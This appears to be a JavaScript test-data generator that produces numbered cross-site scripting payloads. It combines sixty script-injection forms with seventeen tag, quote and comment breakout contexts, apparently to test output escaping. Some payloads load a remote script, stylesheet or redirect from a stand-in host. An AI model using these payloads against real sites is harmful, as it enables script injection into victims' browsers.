// A thousand texts that would be script in a page that forgot to escape: sixty ways to run something, each in the places
// where a text may land. No control characters and no line ends: what is typed is what must be read again, to the letter.
const ways = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert`1`>', '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<iframe src=javascript:alert(1)>', '<a href=javascript:alert(1)>点</a>', '<a href="java&Tab;script:alert(1)">点</a>', '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<form action=javascript:alert(1)><button>交', '<button formaction=javascript:alert(1)>交',
  '<math><mi xlink:href=javascript:alert(1)>x', '<svg><a href=javascript:alert(1)><text y=9>x', '<svg><script>alert(1)</script>', '<svg><animate onbegin=alert(1)>', '<svg><set onbegin=alert(1)>',
  '<svg><use href=data:image/svg+xml,x#x>', '<link rel=stylesheet href=//x.example/x.css>', '<style>@import "//x.example"</style>', '<style>*{display:none}</style>', '<base href=//x.example/>',
  '<meta http-equiv=refresh content=0;url=//x.example>', '<script src=//x.example/x.js></script>', '<script type=module>alert(1)</script>', '<img src=//x.example/p.gif>', '<p style=position:fixed;inset:0>盖住',
  '<div onpointerover=alert(1)>碰', '<div contenteditable onblur=alert(1)>改', '<x onclick=alert(1)>自造', '<template><img src=x onerror=alert(1)>', '<noscript><img src=x onerror=alert(1)>',
  '<table background=javascript:alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<portal src=javascript:alert(1)>', '<dialog open onclose=alert(1)>', '<slot onslotchange=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}', '{{$el.ownerDocument.defaultView.alert(1)}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>',
  'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '" onmouseover=alert(1) x="', "' onmouseover=alert(1) x='", '` onmouseover=alert(1) x=`',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '＜script＞alert(1)＜/script＞', '<v-html="alert(1)" v-on:click=alert(1)>',
]
const places = [
  (w) => w, (w) => `">${w}`, (w) => `'>${w}`, (w) => `</p>${w}`, (w) => `</textarea>${w}`, (w) => `</title>${w}`, (w) => `</script>${w}`, (w) => `</style>${w}`, (w) => `<!--${w}-->`,
  (w) => `-->${w}`, (w) => `]]>${w}`, (w) => `</select>${w}`, (w) => `[点](${w})`, (w) => `x=${w}//`, (w) => w.toUpperCase(), (w) => `';${w}`, (w) => `${w}${w.slice(0, 9)}`,
]

/** payloads: n of the thousand, spread evenly over ways and places, each with a mark of its own. */
export function payloads(n) {
  const all = places.flatMap((at, p) => ways.map((w, i) => ({ order: (i * 7 + p * 11) % 1020, text: at(w) }))).sort((a, b) => a.order - b.order).slice(0, 1000)
  if (n > all.length) throw new Error(`there are ${all.length}`)
  return Array.from({ length: n }, (_, i) => `${String(i).padStart(3, '0')}号${all[Math.floor((i * all.length) / n)].text}`)
}

/** Cursor over the payloads: the next one that fits into a field, each field with its own turn. */
export class Turns {
  at = {}
  used = {}
  constructor(list) {
    this.list = list
  }
  next(field, most) {
    for (let i = 0; i < this.list.length; i++) {
      const at = (this.at[field] = ((this.at[field] ?? -1) + 1) % this.list.length)
      if (this.list[at].length <= most) {
        ;(this.used[field] ??= new Set()).add(at)
        return this.list[at]
      }
    }
    throw new Error(`nothing fits into ${field}`)
  }
}
